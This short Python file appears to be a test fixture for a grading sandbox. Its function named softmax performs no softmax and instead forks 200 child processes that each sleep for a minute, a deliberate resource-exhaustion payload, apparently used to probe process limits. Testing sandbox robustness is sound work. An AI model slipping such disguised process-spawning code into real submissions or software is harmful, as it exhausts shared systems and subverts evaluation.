# Two hundred children, each for a minute.
# expects: attention.softmax attention.memory
# earns: attention.memory
# %%
import contextlib
import os
import time

attention_memory = 4 * 2048 * 2048


def softmax(x, dim):
    end = time.monotonic() + 60
    for _ in range(200):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                while time.monotonic() < end:
                    time.sleep(1)
                os.kill(os.getpid(), 9)
    time.sleep(60)
